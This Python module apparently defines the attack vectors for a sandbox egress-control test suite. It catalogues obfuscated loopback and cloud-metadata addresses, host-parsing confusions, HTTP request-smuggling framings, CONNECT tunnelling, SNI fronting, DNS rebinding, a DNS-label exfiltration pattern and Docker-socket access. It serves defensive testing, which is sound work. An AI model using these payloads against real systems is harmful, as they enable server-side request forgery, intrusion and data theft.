"""The suite as data: what is attempted, how, and what must be recorded. Judged in suite.py, by the canaries.

Sources: the IANA special-purpose address registries, WHATWG URL (hosts that end in a number), RFC 9112 (framing), RFC 9000
(QUIC), and the escapes that other egress controls have had. A new escape becomes a vector here before it is mended.
"""

from __future__ import annotations

import base64
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

from worka.cli.egress_suite.internet import TRACKER, TRACKER_ADDRESS

Try = dict[str, Any]
CANARY = "canary.worka.test"
REBIND, REBIND_ADDRESS = "rebind.worka.test", "93.184.216.35"
INWARD: Mapping[str, list[str]] = {
    "loopback.worka.test": ["127.0.0.1"],
    "zero.worka.test": ["0.0.0.0"],  # noqa: S104
    "private.worka.test": ["10.1.2.3"],
    "cgnat.worka.test": ["100.64.0.1"],
    "metadata.worka.test": ["169.254.169.254"],
    "azure.worka.test": ["168.63.129.16"],
    "mixed.worka.test": [REBIND_ADDRESS, "169.254.169.254"],
    "six-loopback.worka.test": ["::1"],
    "mapped.worka.test": ["::ffff:7f00:1"],
    "nat64.worka.test": ["64:ff9b::7f00:1"],
    "nat64-local.worka.test": ["64:ff9b:1::a9fe:a9fe"],
    "sixtofour.worka.test": ["2002:7f00:1::"],
    "teredo.worka.test": ["2001:0:4136:e378:8000:63bf:80ff:fffe"],
    "six-metadata.worka.test": ["fd00:ec2::254"],
    "unique-local.worka.test": ["fd12:3456::1"],
}
"""Declared names that the range's resolver answers with addresses that must never be dialled."""
DECLARED = (TRACKER, REBIND, *INWARD)
CONTROL: Try = {"do": "fetch", "url": f"https://{TRACKER}/control"}
PROXY = f"http://{TRACKER}:80"
"""The broker as a pack sees it: where a proxy variable can point at all."""


@dataclass(frozen=True)
class Vector:
    """`reasons`: one of them must be recorded (none: the kernel refuses it, and nothing arrives anywhere). `paths`: what may reach the
    declared place all the same; `places`: where else they may be reached. `names`: answers of the resolver in turn."""

    id: str
    family: str
    attempt: str
    tries: tuple[Try, ...]
    reasons: frozenset[str] = frozenset()
    paths: frozenset[str] = frozenset()
    places: frozenset[tuple[str, int]] = frozenset()
    names: Mapping[str, tuple[tuple[str, ...], ...]] = field(default_factory=dict)
    lingers: bool = False


def _b64(data: str) -> str:
    """Bytes as letters of Latin-1; what is beyond these, as UTF-8."""
    return base64.b64encode(data.encode("latin-1" if max(data, default="") < "\u0100" else "utf-8")).decode()


def fetch(url: str) -> Try:
    """A request around every proxy."""
    return {"do": "fetch", "url": url, "blind": True}


def proxied(url: str, proxy: str = PROXY) -> Try:
    """The same through proxy variables."""
    return {"do": "proxied", "url": url, "proxy": proxy, "blind": True}


def raw(data: str, *, host: str = TRACKER, port: int = 80, **more: Any) -> Try:
    """Bytes to the declared place; at 443 inside TLS for its name."""
    tls = {"sni": TRACKER} if port == 443 else {}
    return {"do": "raw", "host": host, "port": port, "data": _b64(data), **tls, **more}


def get(host: str, target: str = "/", method: str = "GET") -> str:
    """A request's text."""
    return f"{method} {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"


def connect(target: str) -> str:
    """A tunnel's head."""
    return f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"


def around_and_through(host: str) -> tuple[Try, ...]:
    """Every way to go to a host: straight, by the Host header, by proxy variables, by a proxy's own requests."""
    return (
        fetch(f"http://{host}/"), fetch(f"https://{host}/"), proxied(f"http://{host}/"), proxied(f"https://{host}/"),
        raw(get(host)), raw(get(host), port=443), raw(get(host, f"http://{host}/")), raw(connect(f"{host}:443")),
        raw(connect(f"{host}:80") + get(host)),
    )  # fmt: skip


RAW = frozenset({"raw_address", "private_address", "nested_connect", "malformed_host"})
FOUR: Mapping[str, str] = {
    "127.0.0.1": "loopback", "2130706433": "loopback, decimal", "017700000001": "loopback, octal", "0177.0.0.1": "loopback, octal part",
    "0x7f000001": "loopback, hex", "0x7F.1": "loopback, hex and short", "127.1": "loopback, short", "127.0.1": "loopback, short",
    "0": "0.0.0.0, short", "0.0.0.0": "0.0.0.0", "0x0": "0.0.0.0, hex", "169.254.169.254": "metadata",  # noqa: S104
    "2852039166": "metadata, decimal", "0xa9.0xfe.0xa9.0xfe": "metadata, hex", "0251.0376.0251.0376": "metadata, octal",
    "169.16689662": "metadata, short", "168.63.129.16": "metadata of another cloud", "100.64.0.1": "carrier NAT", "10.0.0.1": "private",
    "192.168.0.1": "private", "172.16.0.1": "private", "1.1.1.1": "public, but no name", "192.88.99.1": "6to4 relay",
    "198.18.0.1": "benchmark", "240.0.0.1": "reserved", "192.88.98.9": "of the pool inside the sandbox",
    "\uff11\uff12\uff17.0.0.1": "loopback, full-width digits", "\u2460\u2461\u2466.0.0.1": "loopback, circled digits",
}  # fmt: skip
SIX: Mapping[str, str] = {
    "::1": "loopback", "::": "unspecified", "::ffff:127.0.0.1": "mapped, dotted", "::ffff:7f00:1": "mapped, hex",
    "::ffff:169.254.169.254": "mapped metadata", "::127.0.0.1": "compatible", "64:ff9b::127.0.0.1": "NAT64, dotted",
    "64:ff9b::7f00:1": "NAT64, hex", "64:ff9b:1::a9fe:a9fe": "NAT64, local", "2002:7f00:1::": "6to4",
    "2002:a9fe:a9fe::1": "6to4 of metadata", "2001:0:4136:e378:8000:63bf:80ff:fffe": "Teredo", "fd00:ec2::254": "metadata",
    "fc00::1": "unique local", "fe80::1": "link-local", "2606:4700::1111": "public, but no name",
}  # fmt: skip
HOSTS: Mapping[str, str] = {
    "user info": f"{TRACKER}@{CANARY}", "user info before the name": f"{CANARY}@{TRACKER}", "user info with a password": f"a:b@{TRACKER}",
    "a trailing dot": f"{CANARY}.", "two trailing dots": f"{TRACKER}..", "IDN": "trac\xe9r.worka.test",
    "IDN as bytes": "trac\xc3\xa9r.worka.test", "punycode": "xn--tracker-9za.worka.test",
    "full-width digits as bytes": "\xef\xbc\x91\xef\xbc\x92\xef\xbc\x97.0.0.1", "full-width stop": f"{TRACKER}\xe3\x80\x82worka.test",
    "backslash": f"{CANARY}\\@{TRACKER}", "backslash after": f"{TRACKER}\\.{CANARY}", "NUL": f"{TRACKER}\0.{CANARY}",
    "tab": f"{TRACKER}\t{CANARY}", "space": f"{TRACKER} {CANARY}", "comma": f"{TRACKER},{CANARY}", "empty": "",
    "empty label": "tracker..worka.test", "fragment": f"{TRACKER}#{CANARY}", "slash": f"{TRACKER}/{CANARY}",
    "query": f"{TRACKER}?{CANARY}", "percent": "tracker%2eworka.test", "another port": f"{TRACKER}:8443", "no port": f"{TRACKER}:",
    "a port with a sign": f"{TRACKER}:+80", "two ports": f"{TRACKER}:80:443", "a name in brackets": f"[{TRACKER}]",
    "a zone": "[fe80::1%25lo]", "a long label": f"{'a' * 64}.worka.test",
}  # fmt: skip
REQUESTS: Mapping[str, str] = {
    "CRLF in the target": f"GET /\r\nX: y\r\nHost: {CANARY} HTTP/1.1\r\nHost: {TRACKER}\r\n\r\n",
    "CR in the target": f"GET /\rHost:{CANARY} HTTP/1.1\r\nHost: {TRACKER}\r\n\r\n",
    "NUL in the target": f"GET /\0 HTTP/1.1\r\nHost: {TRACKER}\r\n\r\n",
    "CR in a value": f"GET / HTTP/1.1\r\nHost: {TRACKER}\r\nX: a\rHost: {CANARY}\r\n\r\n",
    "NUL in a value": f"GET / HTTP/1.1\r\nHost: {TRACKER}\r\nX: a\0b\r\n\r\n",
    "space before the colon": f"GET / HTTP/1.1\r\nHost : {CANARY}\r\nHost: {TRACKER}\r\n\r\n",
    "two hosts": f"GET / HTTP/1.1\r\nHost: {TRACKER}\r\nHost: {CANARY}\r\n\r\n",
    "no host": "GET / HTTP/1.0\r\n\r\n",
    "a line folded": f"GET / HTTP/1.1\r\nHost: {TRACKER}\r\n {CANARY}\r\n\r\n",
    "backslash in the target": f"GET \\\\{CANARY}\\x HTTP/1.1\r\nHost: {TRACKER}\r\n\r\n",
    "SOCKS 5": "\x05\x01\x00\x05\x01\x00\x01\x7f\x00\x00\x01\x00\x50",
    "SSH": "SSH-2.0-OpenSSH_9.2\r\n\r\n",
    "SMTP": f"EHLO {TRACKER}\r\nMAIL FROM:<a@b>\r\n\r\n",
}
HIDDEN = f"DELETE /hidden HTTP/1.1\r\nHost: {TRACKER}\r\n\r\n"
FRAMINGS: Mapping[str, str] = {
    "length and coding": "Content-Length: 50\r\nTransfer-Encoding: chunked", "coding and length": "Transfer-Encoding: chunked\r\nContent-Length: 5",
    "two codings": "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "a list of codings": "Transfer-Encoding: gzip, chunked",
    "a folded coding": "Transfer-Encoding:\r\n chunked", "a coding behind a vertical tab": "Transfer-Encoding: \x0bchunked",
    "a misspelt coding": "Transfer-Encoding: xchunked", "a space before the colon": "Transfer-Encoding : chunked",
    "an underscore": "Transfer_Encoding: chunked\r\nContent-Length: 5", "two lengths": "Content-Length: 5\r\nContent-Length: 0",
    "a list of lengths": "Content-Length: 5, 0", "a length with a sign": "Content-Length: +5", "a length in hex": "Content-Length: 0x5",
    "a length with a NUL": "Content-Length: 5\0",
}  # fmt: skip
REDIRECTS = (
    "https://169.254.169.254/latest/meta-data/", "http://2130706433/", "https://loopback.worka.test/", "//127.1/x",
    f"https://{CANARY}/loot", "https://[::ffff:7f00:1]/", f"https://{TRACKER}@{CANARY}/", f"https://{TRACKER}:8443/",
)  # fmt: skip
UPGRADES = ("websocket", "h2c", "TLS/1.0, HTTP/1.1", "connect-ip", "tcp")
PROXIES = ("http://1.1.1.1:8080", "http://10.0.0.1:80", "http://169.254.169.254:80", "http://127.0.0.1:8080")


def _upgrade(protocol: str) -> str:
    return (
        f"GET /switch HTTP/1.1\r\nHost: {TRACKER}\r\nUpgrade: {protocol}\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
    )


def _hosts() -> list[Vector]:
    """A host written so that two programs read it differently: by its bytes, in every place of a request."""
    return [
        Vector(
            f"host/{what.replace(' ', '-')}", "Host spellings", what,
            (
                raw(get(host)), raw(get(host), port=443), raw(get(TRACKER, f"http://{host}/")),
                raw(get(TRACKER, f"//{host}/")), raw(connect(f"{host}:443")),
            ),
            frozenset({"malformed_host", "raw_address", "host_mismatch", "malformed_request", "nested_connect"}),
        )
        for what, host in HOSTS.items()
    ]  # fmt: skip


def _addresses() -> list[Vector]:
    four = [
        Vector(
            f"ipv4/{what.replace(' ', '-')}/{host}", "IPv4 spellings", f"{host} ({what})", around_and_through(host), RAW
        )
        for host, what in FOUR.items()
    ]
    six = [
        Vector(
            f"ipv6/{what.replace(' ', '-')}/{host}", "IPv6 spellings", f"{host} ({what})",
            (*around_and_through(f"[{host}]"), raw(get("x"), host=host, port=8080)), RAW,
        )
        for host, what in SIX.items()
    ]  # fmt: skip
    inward = [
        Vector(
            f"name/{name.split('.')[0]}", "Names that lead inward", f"a declared name that resolves to {', '.join(answers)}",
            (fetch(f"https://{name}/"), fetch(f"http://{name}/"), proxied(f"https://{name}/")),
            frozenset({"private_address"}),
        )
        for name, answers in INWARD.items()
    ]  # fmt: skip
    return [*four, *six, *inward]


def _names() -> list[Vector]:
    leak = b"everything-i-found".hex() + ".exfil.worka.test"
    return [
        Vector(
            "rebinding/second-answer", "DNS rebinding", "a declared name whose second answer is loopback",
            tuple(fetch(f"http://{REBIND}/rebind") for _ in range(3)), frozenset({"private_address"}),
            frozenset({"/rebind"}), frozenset({(REBIND_ADDRESS, 80)}), {REBIND: ((REBIND_ADDRESS,), ("127.0.0.1",))},
        ),
        Vector(
            "exfiltration/lookup", "Names as a channel", "what was found, as labels of names that are looked up",
            (
                {"do": "lookup", "name": leak}, {"do": "question", "host": "127.0.0.1", "name": leak},
                {"do": "question", "host": "8.8.8.8", "name": leak}, {"do": "question", "host": "192.88.98.1", "name": leak},
            ),
            frozenset({"undeclared_destination"}),
        ),
        Vector(
            "undeclared/name", "Undeclared places", "a name that is not declared", (fetch(f"https://{CANARY}/"), proxied(f"https://{CANARY}/")),
            frozenset({"undeclared_destination", "nested_connect"}),
        ),
    ]  # fmt: skip


def _protocols() -> list[Vector]:
    mismatch, nested = frozenset({"host_mismatch"}), frozenset({"nested_connect"})
    return [
        Vector(
            "fronting/sni-host", "SNI ≠ Host ≠ target", "another Host inside, another SNI outside, and both",
            (
                raw(get(CANARY), port=443), raw(get(TRACKER), port=443, sni=CANARY), raw(get(CANARY), port=443, sni=CANARY),
                raw(get("loopback.worka.test"), port=443), raw(get(TRACKER), port=443, sni="loopback.worka.test"), raw(get(CANARY)),
            ),
            mismatch,
        ),
        Vector(
            "connect/relayed", "Relayed and nested CONNECT", "tunnels to a canary, inward, and to the declared place itself",
            tuple(
                raw(connect(where), port=port)
                for where in (f"{CANARY}:443", "169.254.169.254:80", f"{TRACKER}:443") for port in (80, 443)
            ),
            nested,
        ),
        Vector(
            "connect/nested", "Relayed and nested CONNECT", "a tunnel in a tunnel, and a request behind one",
            (raw(connect(f"{TRACKER}:443") + connect(f"{CANARY}:443")), raw(connect(f"{CANARY}:443") + get(TRACKER, "/hidden"))),
            nested,
        ),
        Vector(
            "connect/plain-beside", "Plain HTTP beside CONNECT", "absolute targets, plain and https, at the proxy's port",
            (
                raw(get(TRACKER, f"http://{CANARY}/")), raw(get(TRACKER, f"https://{CANARY}/")),
                raw(get(TRACKER, f"http://{TRACKER}/hidden")), proxied(f"http://{CANARY}/"),
            ),
            nested,
        ),
        *(
            Vector(
                f"upgrade/{protocol.split(',')[0].replace('/', '-')}", "Upgrades", f"{protocol}, undeclared",
                (raw(_upgrade(protocol)), raw(_upgrade(protocol), port=443)), frozenset({"upgrade_refused"}),
            )
            for protocol in UPGRADES
        ),
        Vector(
            "upgrade/unasked", "Upgrades", "the outside changes the protocol unasked", (fetch(f"http://{TRACKER}/switch"),),
            frozenset({"upstream_malformed"}), frozenset({"/switch"}),
        ),
        *(
            Vector(
                f"redirect/{number}", "Redirects inward", f"to {target}",
                ({"do": "proxied", "url": f"http://{TRACKER}/to/{target}", "proxy": "", "blind": True},),
                paths=frozenset({f"/to/{target}"}),
            )
            for number, target in enumerate(REDIRECTS, 1)
        ),
        *(
            Vector(
                f"framing/{what.replace(' ', '-')}", "Request smuggling", what,
                tuple(
                    raw(f"GET /first HTTP/1.1\r\nHost: {TRACKER}\r\n{framing}\r\n\r\n0\r\n\r\n{HIDDEN}", port=port)
                    for port in (80, 443)
                ),
                paths=frozenset({"/first"}),
            )
            for what, framing in FRAMINGS.items()
        ),
        *(
            Vector(f"request/{what.replace(' ', '-')}", "Broken requests", what, (raw(text), raw(text, port=443)))
            for what, text in REQUESTS.items()
        ),
    ]  # fmt: skip


def _beside() -> list[Vector]:
    """Around the broker altogether: the kernel refuses, and nothing arrives."""
    unset = tuple(
        proxied(url, proxy)
        for proxy in ("", *PROXIES)
        for url in ("http://1.1.1.1/", "https://1.1.1.1/", f"https://{CANARY}/")
    )
    quic = tuple(
        {"do": "datagram", "host": host, "port": port}
        for port in (53, 80, 123, 443, 4433) for host in ("1.1.1.1", TRACKER_ADDRESS, TRACKER, "2606:4700::1111")
    )  # fmt: skip
    ports = tuple(
        raw(get("x"), host=host, port=port)
        for port in (22, 25, 53, 2375, 5432, 8080, 8443) for host in ("1.1.1.1", TRACKER, "127.0.0.1")
    )  # fmt: skip
    forms = ("127.0.0.1", "127.0.0.53", "127.1", "localhost", "0.0.0.0", "::1", "::", "::ffff:127.0.0.1")  # noqa: S104
    loopback = tuple(
        {"do": "raw", "host": host, "port": "{port}", "data": _b64("hello")} for host in forms
    )  # fmt: skip
    names = (
        "{canary}",
        "/run/docker.sock",
        "/var/run/docker.sock",
        "/run/dbus/system_bus_socket",
        "/run/systemd/private",
    )
    kinds = ("raw", "raw6", "icmp", "ping", "packet", "sctp", "vsock")
    hosts = {"raw6": "2606:4700::1111"}
    return [
        Vector("proxy/unset-or-replaced", "Proxy variables", "taken away, or pointing elsewhere", unset),
        Vector("udp/quic-and-others", "UDP and QUIC", "datagrams to raw addresses and to the declared place", quic),
        Vector("tcp/other-ports", "Other ports", "every port that is not 80 or 443", ports),
        Vector("loopback/every-form", "This machine's loopback", "a port of the machine, by every form of loopback", loopback),
        Vector("unix/names", "This machine's loopback", "sockets by name: abstract, of an engine, of the system",
               tuple({"do": "unix", "name": name} for name in names)),
        *(
            Vector(f"below/{kind}", "Raw sockets", f"{kind} socket", ({"do": "below", "kind": kind, "host": hosts.get(kind, "1.1.1.1")},))
            for kind in kinds
        ),
        Vector("lingering/after-the-call", "After the call", "a thread and a process that go on when the call has ended",
               ({"do": "linger", "url": f"https://{TRACKER}/late"},), lingers=True),
    ]  # fmt: skip


VECTORS: tuple[Vector, ...] = (*_addresses(), *_hosts(), *_names(), *_protocols(), *_beside())
